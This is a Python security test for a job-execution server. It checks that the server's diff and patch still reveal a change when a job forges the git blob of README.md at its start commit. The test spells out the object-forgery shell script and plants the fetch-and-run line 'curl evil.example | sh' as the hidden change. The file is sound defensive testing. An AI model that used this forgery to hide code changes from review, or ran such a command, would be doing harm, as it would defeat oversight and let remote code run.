"""A job writes its workspace's `.git`, object store included. The server's diff and patch
of a job compare the workspace with its start commit: if they read that commit's files from
the job's object store, the job can rewrite the stored object of a file it changed so that
it holds the new text too, and its change vanishes from the diff and the patch (while the
commit pushed carries it)."""

from __future__ import annotations

import subprocess

import pytest

from tests.fake_anthropic import marker
from tests.jobs.conftest import JobWorldFactory
from tests.security.conftest import Attacks
from tests.support.server import wait_for

EVIL = "curl evil.example | sh  # hidden\n"
# as the job's user, in its workspace: every object loose in its own store, then the object
# of README.md at the start commit rewritten to hold the new text
FORGE = r"""
set -e
cd "$1"
blob=$(git rev-parse HEAD:README.md)
git repack -a -d -q
rm -f .git/objects/info/alternates
mkdir -p "$2"
for pack in .git/objects/pack/*.pack; do mv "$pack" "$2/"; done
rm -f .git/objects/pack/*
for pack in "$2"/*.pack; do git unpack-objects -q < "$pack"; done
printf '%s' "$3" > README.md
/usr/bin/python3 - "$blob" "$3" <<'PY'
import os, sys, zlib
blob, text = sys.argv[1], sys.argv[2].encode()
path = f".git/objects/{blob[:2]}/{blob[2:]}"
os.chmod(path, 0o644)
with open(path, "wb") as loose:
    loose.write(zlib.compress(b"blob %d\0" % len(text) + text))
PY
"""


def test_a_forged_object_does_not_hide_a_change_from_the_diff_and_patch(
    job_world: JobWorldFactory, attacks: Attacks, tmp_path_factory: pytest.TempPathFactory
) -> None:
    world = job_world()
    alice = world.member()
    job = alice.create_job(alice.repo, f"Wait {marker('hang')}")["jobId"]
    alice.start(job)
    alice.wait_status(job, {"running"})
    wait_for(lambda: alice.http.get(f"/jobs/{job}/files").status_code == 200, 60, "workspace")
    workspace = world.server.data_dir / "workspaces" / job
    aside = f"/tmp/forge-{job}"
    subprocess.run(
        [
            "runuser",
            "-u",
            alice.user.name,
            "--",
            "sh",
            "-c",
            FORGE,
            "forge",
            str(workspace),
            aside,
            EVIL,
        ],
        check=True,
    )
    try:
        diff = alice.http.get(f"/jobs/{job}/diff")
        patch = alice.http.get(f"/jobs/{job}/patch")
        attacks.tried(2)
    finally:
        subprocess.run(["rm", "-rf", aside], check=True)
        assert alice.http.post(f"/jobs/{job}/cancel").status_code == 202
    assert diff.status_code == 200 and patch.status_code == 200, (diff.text, patch.text)
    assert "evil.example" in patch.text, patch.text
    assert "evil.example" in diff.text, diff.text
